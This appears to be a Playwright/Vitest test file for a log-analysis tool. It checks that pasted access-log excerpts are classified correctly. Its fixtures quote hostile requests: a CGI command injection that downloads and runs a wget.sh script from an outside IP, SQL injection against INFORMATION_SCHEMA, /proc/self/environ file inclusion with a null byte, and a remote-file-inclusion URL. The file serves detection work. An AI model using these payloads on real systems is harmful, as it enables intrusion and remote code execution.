import { existsSync, readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launch, paste, settled, show, visit } from './browser.ts'

/*
 * Log lines as articles quote them, pasted as they stand there: wrapped, with typographic quotes, between paragraphs.
 */
const DROPPER = `2025-04-28 14:21:36,297 fail2ban.filter [1723]: WARNING Consider setting logencoding…

b'2025/04/28 14:21:36 [error] 2464#2464: *7393

open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload"
failed (2: No such file or directory),

client: 176.65.148.10,
request: "GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=xxx…0\\xb4%52$c%52$ccd\${IFS}/dev;wget\${IFS}http://94.26.90.205/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh HTTP/1.1",
referrer: "http://xxx.xxx.xxx.xxx:80/cgi-bin/…"\\n'
`
const SCANNER = ['58.210.85.22 04:30:17', '213.136.85.27 11:10:03']
  .flatMap((who) => {
    const [source = '', time = ''] = who.split(' ')
    return ['phpMyAdmin', 'phpmyadmin', 'pma', 'myadmin', 'MyAdmin'].map(
      (folder) =>
        `${source} - - [25/Feb/2020:${time} +0000] "GET /${folder}/scripts/setup.php HTTP/1.1" 404 143 "-" "ZmEu"`,
    )
  })
  .join('\n')
const REVIEW = `Request: domain1.com – – [21/Jun/2011:11:56:40 -0400] “GET /contact/press_release_pop.php?id=-109+UNION+SELECT+1,2,3,4,CONCAT(0x6d7973716c6669,table_schema,0x3a,table_name,0x6d7973716c6669),6,7,8,9,1+FROM+INFORMATION_SCHEMA.TABLES+WHERE+table_name+LIKE+0x25757365726d65746125+limit+0,1– HTTP/1.1” 500 3506 “-” “Python-urllib/2.7” TgC-OK3By8sACPOAAFA “-“

Request: domain2.com – – [22/Jun/2011:01:46:14 -0400] “GET //index.php?option=com_ckforms&controller=../../../../../../../../../../../../..//proc/self/environ%0000 HTTP/1.1” 500 3506 “-” “Mozilla/5.0 (X11; U; Linux i686; cs-CZ; rv:1.7.12) Gecko/20050929”

Request: domain3.com – – [22/Jun/2011:13:46:16 -0400] “GET /home.php?pgi?pgi=../../../../../../../../../../../../../../../proc/self/environ%00 HTTP/1.1” 500 3506 “-” “libwww-perl/6.02” TgIqaK4l@LYAAHhgHZ0 “-“
Request: domain3.com – – [22/Jun/2011:13:47:01 -0400] “GET /home.php?pgi?pgi=http://www.autoviacaomicaelense.pt/transportes/ckeditor/images/vero.txt? HTTP/1.1” 500 3506 “-” “libwww-perl/6.02” TgIqla4l@LYAAFdTHho “-“
`

let browser: Awaited<ReturnType<typeof launch>>
beforeAll(async () => {
  browser = await launch()
})
afterAll(() => browser.close())

/** Pastes a text into a fresh page and gives the page when all is judged. */
async function pasted(text: string): Promise<{ page: Page; close: () => Promise<void> }> {
  const here = await visit(browser, { height: 1400 })
  await paste(here.page, text)
  await settled(here.page)
  const close = async (): Promise<void> => {
    await here.close()
    expect(here.complaints).toEqual([])
    expect(here.requests).toEqual([])
  }
  return { page: here.page, close }
}

const textOf = (page: Page): Promise<string> => page.locator('main').innerText()

/** Whole articles, which do not belong to this project. */
const ARTICLES = '../shared/background/'
const article = (name: string): string => `${ARTICLES}${name}.txt`
const here = existsSync(ARTICLES)
if (!here) console.log(`no ${ARTICLES}: whole articles are not pasted, only their lines`)
const read = (name: string): string => (here ? readFileSync(article(name), 'utf8') : '')

describe('the CGI dropper', () => {
  const check = async (text: string): Promise<void> => {
    const { page, close } = await pasted(text)
    await show(page, 'findings')
    await expect.poll(() => textOf(page)).toContain('176.65.148.10')
    const found = await textOf(page)
    for (const words of ['inject', 'download', 'execute', 'failed', 'written as $IFS'])
      expect(found.toLowerCase(), words).toContain(words.toLowerCase())
    expect(found).not.toContain('likely worked')

    await show(page, 'requests', '&attacks=1')
    await expect.poll(() => textOf(page)).toMatch(/of 1\b/)
    await page.locator('[role=row][aria-rowindex="2"]').dblclick()
    await expect
      .poll(() => page.locator('body').innerText())
      .toContain('hxxp://94[.]26[.]90[.]205/wget.sh')
    const told = await page.locator('body').innerText()
    expect(told).toContain('No such file or directory')
    expect((await page.locator('mark').allInnerTexts()).join(' ')).toContain('%52$c')
    await close()
  }
  it('is one event of ten lines with its stages, its indicator and its failure', () =>
    check(DROPPER))
  it.skipIf(!here)('is found in the whole article, in English', () =>
    check(read('cgi-injection-nginx-en')),
  )
  it.skipIf(!here)('is found in the whole article, in Japanese', () =>
    check(read('cgi-injection-nginx-ja')),
  )
})

describe('the scanner', () => {
  const check = async (text: string): Promise<void> => {
    const { page, close } = await pasted(text)
    await show(page, 'sources')
    await expect.poll(() => textOf(page)).toContain('58.210.85.22')
    const sources = await textOf(page)
    expect(sources).toContain('213.136.85.27')
    expect(sources).toMatch(/of 2\b/)
    expect(sources).toContain('refused')
    await show(page, 'requests', '&attacks=1')
    await expect.poll(() => textOf(page)).toMatch(/of 10\b/)
    await close()
  }
  it('is two sources, refused ten times', () => check(SCANNER))
  it.skipIf(!here)('is found in the whole article', () => check(read('who-is-scanning-en')))
})

describe("the hosting company's review", () => {
  const check = async (text: string, lines: number): Promise<void> => {
    const { page, close } = await pasted(text)
    await expect.poll(() => textOf(page)).toContain('no source address in the log')
    await show(page, 'requests', '&attacks=1')
    await expect.poll(() => textOf(page)).toMatch(new RegExp(`of ${lines}\\b`))
    for (const host of ['domain1.com', 'domain2.com', 'domain3.com']) {
      await show(page, 'requests', `&attacks=1&vhost=${host}`)
      await expect.poll(() => textOf(page), { message: host }).toMatch(/of [1-9]/)
    }
    for (const rule of [
      'sqli/metadata-table',
      'lfi/proc-file',
      'lfi/null-byte',
      'rfi/remote-script',
    ]) {
      await show(page, 'findings', `&rule=${rule}`)
      await expect.poll(() => textOf(page), { message: rule }).toMatch(/of 1\b/)
    }
    await close()
  }
  it('is SQL injection, /proc/self/environ with a NUL and file inclusion on three hosts, and nobody knows by whom', () =>
    check(REVIEW, 4))
  it.skipIf(!here)('is found in the whole article', () => check(read('hosting-daily-review-en'), 9))
})
